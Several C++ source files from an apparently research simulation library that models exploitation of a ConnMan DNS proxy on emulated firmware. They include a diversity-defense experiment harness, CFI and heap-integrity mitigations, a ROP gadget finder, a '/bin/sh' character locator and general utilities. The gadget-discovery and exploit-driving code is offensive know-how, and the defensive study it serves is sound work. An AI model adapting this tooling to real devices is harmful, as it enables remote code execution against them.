  return rows[0];
}

util::Result<std::vector<DiversityTrialStats>> MeasureDiversityResistanceMatrix(
    isa::Arch arch, loader::ProtectionConfig base, int trials,
    std::uint64_t seed0, const std::vector<exploit::Technique>& techniques) {
  if (trials < 1) return util::InvalidArgument("trials must be positive");
  if (techniques.empty()) {
    return util::InvalidArgument("need at least one technique");
  }

  // The attacker profiles the stock (non-diversified) firmware and builds
  // one volley per technique; diversity's whole claim is that these
  // volleys go stale.
  CONNLAB_ASSIGN_OR_RETURN(auto lab, loader::Boot(arch, base, 100));
  connman::DnsProxy lab_proxy(*lab, connman::Version::k134);
  exploit::ProfileExtractor extractor(*lab, lab_proxy);
  CONNLAB_ASSIGN_OR_RETURN(exploit::TargetProfile profile, extractor.Extract());
  exploit::ExploitGenerator generator(profile);

  dns::Message query = dns::Message::Query(0x7E57, "target.device.lan");
  CONNLAB_ASSIGN_OR_RETURN(util::Bytes qwire, dns::Encode(query));
  std::vector<util::Bytes> volleys;
  volleys.reserve(techniques.size());
  for (const exploit::Technique technique : techniques) {
    CONNLAB_ASSIGN_OR_RETURN(dns::LabelSeq labels,
                             generator.BuildLabels(technique));
    dns::Message evil = dns::MaliciousAResponse(query, labels);
    CONNLAB_ASSIGN_OR_RETURN(util::Bytes rwire, dns::Encode(evil));
    volleys.push_back(std::move(rwire));
  }

  loader::ProtectionConfig victim_prot = base;
  StochasticDiversity().Configure(victim_prot);

  std::vector<DiversityTrialStats> rows(techniques.size());
  for (DiversityTrialStats& row : rows) row.trials = trials;

  for (int t = 0; t < trials; ++t) {
    // One loader run per trial; every technique sees this exact boot via
    // snapshot restore, so the comparison isolates the technique.
    CONNLAB_ASSIGN_OR_RETURN(
        auto victim,
        loader::Boot(arch, victim_prot, seed0 + static_cast<std::uint64_t>(t)));
    const loader::Snapshot snap = loader::TakeSnapshot(*victim);

    for (std::size_t v = 0; v < volleys.size(); ++v) {
      if (v > 0) {
        CONNLAB_RETURN_IF_ERROR(loader::RestoreSnapshot(*victim, snap));
      }
      // A fresh proxy per volley clears host-side pending state, exactly
      // like a fresh boot would.
      connman::DnsProxy proxy(*victim, connman::Version::k134);
      CONNLAB_ASSIGN_OR_RETURN(util::Bytes fwd, proxy.AcceptClientQuery(qwire));
      (void)fwd;

      using Kind = connman::ProxyOutcome::Kind;
      switch (proxy.HandleServerResponse(volleys[v]).kind) {
        case Kind::kShell: ++rows[v].shells; break;
        case Kind::kCrash: ++rows[v].crashes; break;
        case Kind::kAbort:
        case Kind::kCfiViolation:
        case Kind::kParseError: ++rows[v].traps; break;
        default: ++rows[v].other; break;
      }
    }
  }
  return rows;
}

}  // namespace connlab::defense
