#include "src/defense/heap_integrity.hpp"

namespace connlab::defense {

void HeapIntegrity::Configure(loader::ProtectionConfig& prot) const {
  prot.heap_integrity = true;
}

std::string HeapIntegrity::Describe() const {
  return "heap integrity: chunk-header canaries (size ^ per-boot secret) and "
         "safe-unlink fd/bk checks verified on every free; a mismatch raises "
         "the HeapCorruption VM stop before the unlink write fires";
}

}  // namespace connlab::defense
