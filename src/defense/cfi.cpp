#include "src/defense/cfi.hpp"

namespace connlab::defense {

void ShadowStackCfi::Configure(loader::ProtectionConfig& prot) const {
  prot.cfi = true;
}

util::Status ShadowStackCfi::Arm(loader::System& sys) const {
  if (sys.cpu == nullptr) {
    return util::FailedPrecondition("CFI: system has no CPU");
  }
  if (!sys.cpu->shadow_stack_enabled()) {
    sys.cpu->set_shadow_stack_enabled(true);
  }
  return util::OkStatus();
}

std::string ShadowStackCfi::Describe() const {
  return "shadow-stack CFI: returns must match an isolated shadow copy "
         "(CFI CaRE model); violations stop the CPU with kCfiViolation";
}

}  // namespace connlab::defense
