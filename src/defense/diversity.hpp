// DAEDALUS-style stochastic software diversity: every boot reshuffles the
// image's function order, pads inter-function gaps, and re-seats the libc
// entry points from a boot-seeded RNG. The attacker's lab profile still
// describes *a* build — just not the one the victim is running — so every
// hardcoded gadget, PLT, and libc address in a generated exploit is a bet,
// and exploit success becomes a probability measured over many boots
// instead of a certainty.
#pragma once

#include <vector>

#include "src/defense/mitigation.hpp"
#include "src/exploit/generator.hpp"

namespace connlab::defense {

class StochasticDiversity : public Mitigation {
 public:
  [[nodiscard]] DefenseKind kind() const noexcept override {
    return DefenseKind::kStochasticDiversity;
  }
  [[nodiscard]] std::string_view name() const noexcept override {
    return "diversity";
  }

  /// Boots the victim with per-boot layout shuffling enabled.
  void Configure(loader::ProtectionConfig& prot) const override;

  [[nodiscard]] std::string Describe() const override;
};

/// Outcome census of one exploit fired at `trials` independently
/// diversified boots of the same firmware.
struct DiversityTrialStats {
  int trials = 0;
  int shells = 0;   // the stale addresses still landed (exploit survived)
  int crashes = 0;  // stale address faulted (DoS, not RCE)
  int traps = 0;    // canary / CFI / parse-error stops (stacked defenses)
  int other = 0;    // halts, step limits, benign-looking returns

  [[nodiscard]] double survival_rate() const noexcept {
    return trials > 0 ? static_cast<double>(shells) / trials : 0.0;
  }
};

/// Measures how often the profile-derived exploit for (`arch`, `base`)
/// still lands when each victim boot re-randomises its layout: builds the
/// exploit once from a *non-diversified* lab boot (the attacker studies the
/// stock firmware), then fires the identical volley at `trials` stochastic
/// boots seeded seed0, seed0+1, …  The paper's deterministic "exploit
/// works" row becomes a survival probability.
util::Result<DiversityTrialStats> MeasureDiversityResistance(
    isa::Arch arch, loader::ProtectionConfig base, int trials,
    std::uint64_t seed0);

/// Multi-technique census over the same diversified boots: each trial boots
/// ONE re-randomised victim, snapshots it post-boot, and fires every
/// technique's volley against a snapshot-restored copy of that boot — so
/// techniques are compared against identical layouts, and the lab pays
/// `trials` loader runs instead of `techniques x trials`. Returns one stats
/// row per technique, in input order.
util::Result<std::vector<DiversityTrialStats>> MeasureDiversityResistanceMatrix(
    isa::Arch arch, loader::ProtectionConfig base, int trials,
    std::uint64_t seed0, const std::vector<exploit::Technique>& techniques);

}  // namespace connlab::defense
