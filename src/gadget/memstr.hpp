// Single-character search over the non-randomised image sections — the
// `ROPgadget --memstr` role from §III-C1: the x86 ROP chain copies
// "/bin/sh" into .bss one character at a time, sourcing each character
// from wherever it happens to exist in .text/.rodata.
#pragma once

#include <string>
#include <vector>

#include "src/loader/boot.hpp"
#include "src/util/status.hpp"

namespace connlab::gadget {

class MemStr {
 public:
  /// Scans the given sections (default: the static main-image sections).
  explicit MemStr(const loader::System& sys,
                  std::vector<std::string> section_names = {".text", ".rodata"});

  /// Address of some occurrence of `c`.
  [[nodiscard]] util::Result<mem::GuestAddr> FindChar(char c) const;

  /// Per-character addresses covering `text` (each found independently).
  [[nodiscard]] util::Result<std::vector<mem::GuestAddr>> FindChars(
      std::string_view text) const;

  /// A contiguous occurrence of `text`, if any.
  [[nodiscard]] util::Result<mem::GuestAddr> FindSubstring(
      std::string_view text) const;

 private:
  struct Region {
    mem::GuestAddr base;
    util::Bytes data;
  };
  std::vector<Region> regions_;
};

}  // namespace connlab::gadget
