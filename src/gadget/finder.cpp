#include "src/gadget/finder.hpp"

#include <algorithm>

#include "src/isa/disasm.hpp"

namespace connlab::gadget {

std::string Gadget::ToString(isa::Arch arch) const {
  std::string out;
  for (std::size_t i = 0; i < instrs.size(); ++i) {
    if (i > 0) out += "; ";
    out += instrs[i].ToString(arch);
  }
  return out;
}

Finder::Finder(const loader::System& sys) : arch_(sys.arch) {
  for (const loader::SectionInfo& section : sys.sections) {
    if (section.name == ".text") {
      text_base_ = section.base;
      auto data = sys.space.DebugRead(section.base, section.size);
      if (data.ok()) text_ = std::move(data).value();
      break;
    }
  }
}

bool Finder::IsTerminator(const isa::Instr& ins) const {
  if (arch_ == isa::Arch::kVX86) return ins.op == isa::Op::kRet;
  if (ins.op == isa::Op::kPop) {
    return (ins.reg_mask & (1u << isa::kPC)) != 0;
  }
  return ins.op == isa::Op::kBlx || ins.op == isa::Op::kBx;
}

bool Finder::IsChainable(const isa::Instr& ins) const {
  // Instructions that make sense inside a gadget body (no control flow,
  // no syscalls/halts — those end usefulness for chaining).
  switch (ins.op) {
    case isa::Op::kNop:
    case isa::Op::kMovImm:
    case isa::Op::kMovReg:
    case isa::Op::kMovT:
    case isa::Op::kLoad:
    case isa::Op::kStore:
    case isa::Op::kLoadByte:
    case isa::Op::kStoreByte:
    case isa::Op::kAddImm:
    case isa::Op::kSubImm:
    case isa::Op::kAddReg:
    case isa::Op::kXorReg:
    case isa::Op::kMvn:
    case isa::Op::kPush:
    case isa::Op::kPushImm:
    case isa::Op::kPop:
    case isa::Op::kLdrLit:
    case isa::Op::kLdrInd:
      return true;
    default:
      return false;
  }
}

std::vector<Gadget> Finder::FindAll(int max_instrs) const {
  std::vector<Gadget> out;
  const std::size_t step = arch_ == isa::Arch::kVARM ? 4 : 1;
  for (std::size_t start = 0; start < text_.size(); start += step) {
    Gadget gadget;
    gadget.addr = text_base_ + static_cast<mem::GuestAddr>(start);
    std::size_t pos = start;
    bool valid = false;
    for (int n = 0; n < max_instrs; ++n) {
      auto decoded = isa::Decode(arch_, text_, pos);
      if (!decoded.ok()) break;
      const isa::Instr& ins = decoded.value();
      gadget.instrs.push_back(ins);
      pos += ins.length;
      if (IsTerminator(ins)) {
        // A VARM pop-into-pc mid-body is itself the terminator; but a pop
        // {…,pc} can only be the *last* instruction — which it is here.
        valid = true;
        break;
      }
      if (!IsChainable(ins)) break;
    }
    if (valid) out.push_back(std::move(gadget));
  }
  return out;
}

util::Result<Gadget> Finder::FindPopRet(int pop_count) const {
  if (arch_ != isa::Arch::kVX86) {
    return util::FailedPrecondition("pop...ret gadgets are a VX86 shape");
  }
  for (const Gadget& gadget : FindAll(pop_count + 1)) {
    if (static_cast<int>(gadget.instrs.size()) != pop_count + 1) continue;
    bool all_pops = true;
    for (int i = 0; i < pop_count; ++i) {
      all_pops &= gadget.instrs[static_cast<std::size_t>(i)].op == isa::Op::kPop;
    }
    if (all_pops && gadget.instrs.back().op == isa::Op::kRet) {
      return gadget;
    }
  }
  return util::NotFound("no pop^" + std::to_string(pop_count) + ";ret gadget");
}

util::Result<Gadget> Finder::FindPopRegsPc(std::uint16_t required_mask) const {
  if (arch_ != isa::Arch::kVARM) {
    return util::FailedPrecondition("pop {…, pc} gadgets are a VARM shape");
  }
  const std::uint16_t want =
      static_cast<std::uint16_t>(required_mask | (1u << isa::kPC));
  const std::vector<Gadget> all = FindAll(1);
  const Gadget* best = nullptr;
  int best_pops = 17;
  for (const Gadget& gadget : all) {
    const isa::Instr& ins = gadget.instrs.front();
    if (ins.op != isa::Op::kPop) continue;
    if ((ins.reg_mask & want) != want) continue;
    int pops = 0;
    for (int i = 0; i < 16; ++i) pops += (ins.reg_mask >> i) & 1;
    if (pops < best_pops) {
      best = &gadget;
      best_pops = pops;
    }
  }
  if (best == nullptr) return util::NotFound("no covering pop {…, pc} gadget");
  return *best;
}

util::Result<Gadget> Finder::FindBlx(std::uint8_t reg) const {
  if (arch_ != isa::Arch::kVARM) {
    return util::FailedPrecondition("blx gadgets are a VARM shape");
  }
  for (std::size_t start = 0; start + 4 <= text_.size(); start += 4) {
    auto decoded = isa::Decode(arch_, text_, start);
    if (!decoded.ok()) continue;
    if (decoded.value().op != isa::Op::kBlx || decoded.value().ra != reg) {
      continue;
    }
    Gadget gadget;
    gadget.addr = text_base_ + static_cast<mem::GuestAddr>(start);
    gadget.instrs.push_back(decoded.value());
    // Include up to two following instructions: how execution continues
    // when the callee returns just past the blx.
    std::size_t pos = start + 4;
    for (int i = 0; i < 2 && pos + 4 <= text_.size(); ++i) {
      auto next = isa::Decode(arch_, text_, pos);
      if (!next.ok()) break;
      gadget.instrs.push_back(next.value());
      pos += next.value().length;
      if (IsTerminator(next.value())) break;
    }
    return gadget;
  }
  return util::NotFound("no blx gadget for that register");
}

}  // namespace connlab::gadget
