#include "src/gadget/memstr.hpp"

#include <algorithm>

namespace connlab::gadget {

MemStr::MemStr(const loader::System& sys,
               std::vector<std::string> section_names) {
  for (const loader::SectionInfo& section : sys.sections) {
    if (std::find(section_names.begin(), section_names.end(), section.name) ==
        section_names.end()) {
      continue;
    }
    auto data = sys.space.DebugRead(section.base, section.size);
    if (data.ok()) {
      regions_.push_back({section.base, std::move(data).value()});
    }
  }
}

util::Result<mem::GuestAddr> MemStr::FindChar(char c) const {
  for (const Region& region : regions_) {
    auto it = std::find(region.data.begin(), region.data.end(),
                        static_cast<std::uint8_t>(c));
    if (it != region.data.end()) {
      return region.base +
             static_cast<mem::GuestAddr>(it - region.data.begin());
    }
  }
  return util::NotFound(std::string("character not present in image: '") + c +
                        "'");
}

util::Result<std::vector<mem::GuestAddr>> MemStr::FindChars(
    std::string_view text) const {
  std::vector<mem::GuestAddr> out;
  out.reserve(text.size());
  for (char c : text) {
    CONNLAB_ASSIGN_OR_RETURN(mem::GuestAddr addr, FindChar(c));
    out.push_back(addr);
  }
  return out;
}

util::Result<mem::GuestAddr> MemStr::FindSubstring(std::string_view text) const {
  if (text.empty()) return util::InvalidArgument("empty search string");
  for (const Region& region : regions_) {
    auto it = std::search(region.data.begin(), region.data.end(), text.begin(),
                          text.end());
    if (it != region.data.end()) {
      return region.base +
             static_cast<mem::GuestAddr>(it - region.data.begin());
    }
  }
  return util::NotFound("substring not present in image");
}

}  // namespace connlab::gadget
