// Gadget discovery over a loaded guest image — the ropper / ROPgadget role
// from §III-B2 and §III-C1.
//
// On VX86 the scan starts at *every byte offset* of .text, because the
// variable-length encoding yields unintended gadgets inside instruction
// immediates (the same property real x86 tools exploit). On VARM the scan
// is word-aligned, matching the fixed-width encoding.
#pragma once

#include <string>
#include <vector>

#include "src/isa/isa.hpp"
#include "src/loader/boot.hpp"
#include "src/util/status.hpp"

namespace connlab::gadget {

struct Gadget {
  mem::GuestAddr addr = 0;
  std::vector<isa::Instr> instrs;  // terminator included

  /// "pop esi; pop edi; ret" — for listings and logs.
  [[nodiscard]] std::string ToString(isa::Arch arch) const;
};

class Finder {
 public:
  /// Scans the image's .text section.
  explicit Finder(const loader::System& sys);

  /// Every gadget of at most `max_instrs` instructions ending in a control
  /// transfer usable for chaining: VX86 `ret`; VARM `pop {..., pc}` or
  /// `blx reg` / `bx reg`.
  [[nodiscard]] std::vector<Gadget> FindAll(int max_instrs = 4) const;

  // --- The specific shapes the paper's exploits need -----------------------

  /// VX86: exactly `pop_count` pops followed by ret (the "pppr" shape).
  [[nodiscard]] util::Result<Gadget> FindPopRet(int pop_count) const;

  /// VARM: a `pop {mask, pc}` gadget whose mask covers `required_mask`
  /// (pc implied). Returns the *smallest* covering gadget so callers can
  /// derive the frame layout from its actual mask.
  [[nodiscard]] util::Result<Gadget> FindPopRegsPc(std::uint16_t required_mask) const;

  /// VARM: `blx <reg>`; the instructions following it (up to 2) are
  /// included so the caller can see how control continues after the call
  /// returns (the paper's pop {r8, pc} tail).
  [[nodiscard]] util::Result<Gadget> FindBlx(std::uint8_t reg) const;

  [[nodiscard]] isa::Arch arch() const noexcept { return arch_; }
  [[nodiscard]] std::size_t text_size() const noexcept { return text_.size(); }

 private:
  bool IsTerminator(const isa::Instr& ins) const;
  bool IsChainable(const isa::Instr& ins) const;

  isa::Arch arch_;
  mem::GuestAddr text_base_ = 0;
  util::Bytes text_;
};

}  // namespace connlab::gadget
