// Shared threading helpers for the parallel subsystems (fuzz worker fleets,
// fleet survival sweeps).
//
// Two shapes, deliberately distinct:
//
//  - ParallelFor: a work *queue*. `workers` threads pull indices off an
//    atomic counter until `count` tasks are done. Right for independent
//    tasks (fleet sweep points) where any thread may run any task and
//    nothing blocks on anything else.
//
//  - ParallelInvoke: exactly one thread per index, all alive at once.
//    Required when the bodies rendezvous with each other (fuzz workers at
//    an epoch barrier): running two bodies on one queue thread would
//    deadlock the barrier, so a queue is the wrong tool there.
//
// Neither helper imposes any ordering on results — callers that need
// deterministic output write into pre-sized slots by index and assemble in
// index order afterwards.
#pragma once

#include <cstddef>
#include <functional>

namespace connlab::util {

/// Maps a worker-count request onto this host: 0 = hardware concurrency,
/// anything else passes through. Never returns 0.
[[nodiscard]] std::size_t ResolveWorkerCount(std::size_t requested) noexcept;

/// Runs body(0) ... body(count-1) across up to `workers` threads pulling
/// from a shared atomic counter. Runs inline (no threads) when either the
/// task or worker count is <= 1. `body` must not throw.
void ParallelFor(std::size_t count, std::size_t workers,
                 const std::function<void(std::size_t)>& body);

/// Runs body(0) ... body(count-1) on exactly one dedicated thread each,
/// all concurrent, and joins them. Inline when count <= 1. Use when the
/// bodies synchronise with one another. `body` must not throw.
void ParallelInvoke(std::size_t count,
                    const std::function<void(std::size_t)>& body);

}  // namespace connlab::util
