// Deterministic, seedable randomness.
//
// Everything stochastic in connlab — ASLR bases, DNS transaction ids,
// workload generation, fuzzers — draws from an explicitly threaded Rng so
// every experiment is replayable from a single seed. We use SplitMix64: tiny,
// fast, and statistically fine for simulation (not cryptographic — nothing in
// this library needs cryptographic randomness).
#pragma once

#include <cstdint>
#include <vector>

namespace connlab::util {

class Rng {
 public:
  explicit Rng(std::uint64_t seed) noexcept : state_(seed) {}

  /// Next raw 64-bit draw.
  std::uint64_t NextU64() noexcept;

  /// Uniform in [0, bound). bound == 0 returns 0.
  std::uint64_t NextBelow(std::uint64_t bound) noexcept;

  /// Uniform in [lo, hi] inclusive. Requires lo <= hi.
  std::uint64_t NextInRange(std::uint64_t lo, std::uint64_t hi) noexcept;

  std::uint32_t NextU32() noexcept {
    return static_cast<std::uint32_t>(NextU64());
  }

  /// True with probability p (clamped to [0,1]).
  bool NextBool(double p) noexcept;

  /// `count` uniformly random bytes.
  std::vector<std::uint8_t> NextBytes(std::size_t count);

  /// Derives an independent child stream (for parallel subsystems).
  /// Advances this Rng's state — two successive Forks differ.
  Rng Fork() noexcept { return Rng(NextU64() ^ 0x9e3779b97f4a7c15ULL); }

  /// Derives the `stream`-th child stream WITHOUT advancing this Rng:
  /// the child depends only on the parent's current state and the stream
  /// index, so per-worker streams (worker i gets Split(i)) are identical
  /// across runs regardless of thread scheduling or how the other workers
  /// interleave their draws.
  [[nodiscard]] Rng Split(std::uint64_t stream) const noexcept;

 private:
  std::uint64_t state_;
};

}  // namespace connlab::util
