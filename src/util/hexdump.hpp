// Classic 16-bytes-per-line hexdump, used by the Debugger and examples to
// show guest memory the way the paper's authors inspected it with gdb.
#pragma once

#include <cstdint>
#include <string>

#include "src/util/bytes.hpp"

namespace connlab::util {

/// Renders `data` as an offset/hex/ASCII dump. `base` is the address printed
/// in the left column (a guest virtual address, usually).
std::string HexDump(ByteSpan data, std::uint32_t base = 0);

}  // namespace connlab::util
