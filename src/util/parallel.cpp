#include "src/util/parallel.hpp"

#include <atomic>
#include <thread>
#include <vector>

namespace connlab::util {

std::size_t ResolveWorkerCount(std::size_t requested) noexcept {
  if (requested != 0) return requested;
  const unsigned hw = std::thread::hardware_concurrency();
  return hw == 0 ? 1 : hw;
}

void ParallelFor(std::size_t count, std::size_t workers,
                 const std::function<void(std::size_t)>& body) {
  if (count == 0) return;
  if (count <= 1 || workers <= 1) {
    for (std::size_t i = 0; i < count; ++i) body(i);
    return;
  }
  // More threads than tasks just park on an exhausted counter; don't spawn
  // them in the first place.
  const std::size_t threads = workers < count ? workers : count;
  std::atomic<std::size_t> next{0};
  std::vector<std::thread> pool;
  pool.reserve(threads);
  for (std::size_t t = 0; t < threads; ++t) {
    pool.emplace_back([&next, count, &body] {
      for (;;) {
        const std::size_t i = next.fetch_add(1, std::memory_order_relaxed);
        if (i >= count) return;
        body(i);
      }
    });
  }
  for (std::thread& t : pool) t.join();
}

void ParallelInvoke(std::size_t count,
                    const std::function<void(std::size_t)>& body) {
  if (count == 0) return;
  if (count == 1) {
    body(0);
    return;
  }
  std::vector<std::thread> pool;
  pool.reserve(count);
  for (std::size_t i = 0; i < count; ++i) {
    pool.emplace_back([i, &body] { body(i); });
  }
  for (std::thread& t : pool) t.join();
}

}  // namespace connlab::util
