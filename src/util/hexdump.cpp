#include "src/util/hexdump.hpp"

#include <cctype>
#include <cstdio>

namespace connlab::util {

std::string HexDump(ByteSpan data, std::uint32_t base) {
  std::string out;
  char line[128];
  for (std::size_t row = 0; row < data.size(); row += 16) {
    int n = std::snprintf(line, sizeof(line), "%08x  ",
                          static_cast<unsigned>(base + row));
    out.append(line, static_cast<std::size_t>(n));
    for (std::size_t col = 0; col < 16; ++col) {
      if (row + col < data.size()) {
        n = std::snprintf(line, sizeof(line), "%02x ", data[row + col]);
        out.append(line, static_cast<std::size_t>(n));
      } else {
        out.append("   ");
      }
      if (col == 7) out.push_back(' ');
    }
    out.append(" |");
    for (std::size_t col = 0; col < 16 && row + col < data.size(); ++col) {
      const std::uint8_t b = data[row + col];
      out.push_back(std::isprint(b) != 0 ? static_cast<char>(b) : '.');
    }
    out.append("|\n");
  }
  return out;
}

}  // namespace connlab::util
