// Minimal leveled logger. Off by default so tests and benches stay quiet;
// examples turn it on to narrate the attack as it unfolds.
#pragma once

#include <sstream>
#include <string>
#include <string_view>

namespace connlab::util {

enum class LogLevel : int { kDebug = 0, kInfo = 1, kWarn = 2, kError = 3, kOff = 4 };

/// Global threshold; messages below it are discarded.
void SetLogLevel(LogLevel level) noexcept;
LogLevel GetLogLevel() noexcept;

/// Emits one line to stderr with a level tag. Subsystem is a short label
/// like "vm" or "dnsproxy".
void LogLine(LogLevel level, std::string_view subsystem, std::string_view message);

namespace internal {
class LogMessage {
 public:
  LogMessage(LogLevel level, std::string_view subsystem)
      : level_(level), subsystem_(subsystem) {}
  ~LogMessage() { LogLine(level_, subsystem_, stream_.str()); }
  std::ostringstream& stream() { return stream_; }

 private:
  LogLevel level_;
  std::string subsystem_;
  std::ostringstream stream_;
};
}  // namespace internal

#define CONNLAB_LOG(level, subsystem)                                     \
  if (static_cast<int>(level) < static_cast<int>(::connlab::util::GetLogLevel())) \
    ;                                                                     \
  else                                                                    \
    ::connlab::util::internal::LogMessage(level, subsystem).stream()

#define CONNLAB_DEBUG(subsystem) CONNLAB_LOG(::connlab::util::LogLevel::kDebug, subsystem)
#define CONNLAB_INFO(subsystem) CONNLAB_LOG(::connlab::util::LogLevel::kInfo, subsystem)
#define CONNLAB_WARN(subsystem) CONNLAB_LOG(::connlab::util::LogLevel::kWarn, subsystem)
#define CONNLAB_ERROR(subsystem) CONNLAB_LOG(::connlab::util::LogLevel::kError, subsystem)

}  // namespace connlab::util
