#include "src/util/rng.hpp"

namespace connlab::util {

std::uint64_t Rng::NextU64() noexcept {
  // SplitMix64 (Steele, Lea, Flood 2014).
  state_ += 0x9e3779b97f4a7c15ULL;
  std::uint64_t z = state_;
  z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
  z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
  return z ^ (z >> 31);
}

Rng Rng::Split(std::uint64_t stream) const noexcept {
  // One SplitMix64 finalisation over (state, stream): distinct streams land
  // in well-separated seed positions; stream 0 is NOT the parent's stream
  // (the xor constant shifts it).
  std::uint64_t z = state_ ^ (stream + 1) * 0x9e3779b97f4a7c15ULL;
  z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
  z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
  return Rng(z ^ (z >> 31));
}

std::uint64_t Rng::NextBelow(std::uint64_t bound) noexcept {
  if (bound == 0) return 0;
  // Rejection sampling to avoid modulo bias.
  const std::uint64_t limit = ~0ULL - (~0ULL % bound) - 1;
  std::uint64_t draw = NextU64();
  while (draw > limit) draw = NextU64();
  return draw % bound;
}

std::uint64_t Rng::NextInRange(std::uint64_t lo, std::uint64_t hi) noexcept {
  if (hi <= lo) return lo;
  return lo + NextBelow(hi - lo + 1);
}

bool Rng::NextBool(double p) noexcept {
  if (p <= 0.0) return false;
  if (p >= 1.0) return true;
  constexpr double kScale = 1.0 / 9007199254740992.0;  // 2^-53
  const double u = static_cast<double>(NextU64() >> 11) * kScale;
  return u < p;
}

std::vector<std::uint8_t> Rng::NextBytes(std::size_t count) {
  std::vector<std::uint8_t> out;
  out.reserve(count);
  while (out.size() < count) {
    std::uint64_t word = NextU64();
    for (int i = 0; i < 8 && out.size() < count; ++i) {
      out.push_back(static_cast<std::uint8_t>(word & 0xFF));
      word >>= 8;
    }
  }
  return out;
}

}  // namespace connlab::util
