#include "src/util/log.hpp"

#include <atomic>
#include <cstdio>

namespace connlab::util {

namespace {
std::atomic<int> g_level{static_cast<int>(LogLevel::kOff)};

const char* LevelTag(LogLevel level) {
  switch (level) {
    case LogLevel::kDebug: return "DBG";
    case LogLevel::kInfo: return "INF";
    case LogLevel::kWarn: return "WRN";
    case LogLevel::kError: return "ERR";
    case LogLevel::kOff: return "OFF";
  }
  return "???";
}
}  // namespace

void SetLogLevel(LogLevel level) noexcept {
  g_level.store(static_cast<int>(level), std::memory_order_relaxed);
}

LogLevel GetLogLevel() noexcept {
  return static_cast<LogLevel>(g_level.load(std::memory_order_relaxed));
}

void LogLine(LogLevel level, std::string_view subsystem, std::string_view message) {
  if (static_cast<int>(level) < static_cast<int>(GetLogLevel())) return;
  std::fprintf(stderr, "[%s %.*s] %.*s\n", LevelTag(level),
               static_cast<int>(subsystem.size()), subsystem.data(),
               static_cast<int>(message.size()), message.data());
}

}  // namespace connlab::util
