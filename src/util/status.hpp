// Status / Result error-handling primitives used across connlab.
//
// The library does not throw across module boundaries: fallible operations
// return Status (no payload) or Result<T> (payload or error). Both carry a
// StatusCode and a human-readable message so failures in deeply simulated
// code (a guest memory fault, a malformed DNS packet) surface with context.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <string_view>
#include <utility>
#include <variant>

namespace connlab::util {

enum class StatusCode : std::uint8_t {
  kOk = 0,
  kInvalidArgument,   // caller passed something nonsensical
  kOutOfRange,        // index / address outside a valid region
  kNotFound,          // lookup miss (symbol, gadget, cache entry, ...)
  kAlreadyExists,     // duplicate registration
  kFailedPrecondition,// object not in the required state
  kPermissionDenied,  // guest memory permission violation
  kResourceExhausted, // budget / size limit hit
  kAborted,           // execution aborted (canary check, explicit abort)
  kMalformed,         // wire-format parse error
  kInternal,          // invariant violation inside connlab itself
  kUnimplemented,
};

/// Human-readable name for a StatusCode ("OK", "NOT_FOUND", ...).
std::string_view StatusCodeName(StatusCode code) noexcept;

/// A cheap, copyable success-or-error value.
class [[nodiscard]] Status {
 public:
  Status() noexcept = default;  // OK
  Status(StatusCode code, std::string message)
      : code_(code), message_(std::move(message)) {}

  static Status Ok() noexcept { return Status(); }

  [[nodiscard]] bool ok() const noexcept { return code_ == StatusCode::kOk; }
  [[nodiscard]] StatusCode code() const noexcept { return code_; }
  [[nodiscard]] const std::string& message() const noexcept { return message_; }

  /// "OK" or "CODE_NAME: message" — for logs and test failures.
  [[nodiscard]] std::string ToString() const;

  friend bool operator==(const Status& a, const Status& b) noexcept {
    return a.code_ == b.code_;
  }

 private:
  StatusCode code_ = StatusCode::kOk;
  std::string message_;
};

inline Status OkStatus() { return Status::Ok(); }
inline Status InvalidArgument(std::string m) { return {StatusCode::kInvalidArgument, std::move(m)}; }
inline Status OutOfRange(std::string m) { return {StatusCode::kOutOfRange, std::move(m)}; }
inline Status NotFound(std::string m) { return {StatusCode::kNotFound, std::move(m)}; }
inline Status AlreadyExists(std::string m) { return {StatusCode::kAlreadyExists, std::move(m)}; }
inline Status FailedPrecondition(std::string m) { return {StatusCode::kFailedPrecondition, std::move(m)}; }
inline Status PermissionDenied(std::string m) { return {StatusCode::kPermissionDenied, std::move(m)}; }
inline Status ResourceExhausted(std::string m) { return {StatusCode::kResourceExhausted, std::move(m)}; }
inline Status Aborted(std::string m) { return {StatusCode::kAborted, std::move(m)}; }
inline Status Malformed(std::string m) { return {StatusCode::kMalformed, std::move(m)}; }
inline Status Internal(std::string m) { return {StatusCode::kInternal, std::move(m)}; }
inline Status Unimplemented(std::string m) { return {StatusCode::kUnimplemented, std::move(m)}; }

/// Value-or-Status. Accessing value() on an error is a programming bug and
/// terminates via assert-like check (we never do it in library code).
template <typename T>
class [[nodiscard]] Result {
 public:
  Result(T value) : payload_(std::move(value)) {}          // NOLINT implicit
  Result(Status status) : payload_(std::move(status)) {}   // NOLINT implicit

  [[nodiscard]] bool ok() const noexcept {
    return std::holds_alternative<T>(payload_);
  }

  [[nodiscard]] Status status() const {
    if (ok()) return Status::Ok();
    return std::get<Status>(payload_);
  }

  [[nodiscard]] const T& value() const& { return std::get<T>(payload_); }
  [[nodiscard]] T& value() & { return std::get<T>(payload_); }
  [[nodiscard]] T&& value() && { return std::get<T>(std::move(payload_)); }

  [[nodiscard]] T value_or(T fallback) const& {
    return ok() ? value() : std::move(fallback);
  }

 private:
  std::variant<T, Status> payload_;
};

// Propagation helpers. Usage:
//   CONNLAB_RETURN_IF_ERROR(DoThing());
//   CONNLAB_ASSIGN_OR_RETURN(auto v, MakeThing());
#define CONNLAB_RETURN_IF_ERROR(expr)                  \
  do {                                                 \
    ::connlab::util::Status status_ = (expr);          \
    if (!status_.ok()) return status_;                 \
  } while (false)

#define CONNLAB_CONCAT_INNER(a, b) a##b
#define CONNLAB_CONCAT(a, b) CONNLAB_CONCAT_INNER(a, b)

#define CONNLAB_ASSIGN_OR_RETURN(decl, expr)                      \
  auto CONNLAB_CONCAT(result_, __LINE__) = (expr);                \
  if (!CONNLAB_CONCAT(result_, __LINE__).ok())                    \
    return CONNLAB_CONCAT(result_, __LINE__).status();            \
  decl = std::move(CONNLAB_CONCAT(result_, __LINE__)).value()

}  // namespace connlab::util
