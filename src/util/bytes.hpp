// Byte-buffer primitives: Bytes (owning), ByteReader / ByteWriter cursors.
//
// All simulated wire formats (DNS, guest memory snapshots, exploit payloads)
// are built and parsed through these. Readers are bounds-checked and report
// Malformed on truncation rather than asserting — parsing attacker-crafted
// packets is the normal case in this library.
#pragma once

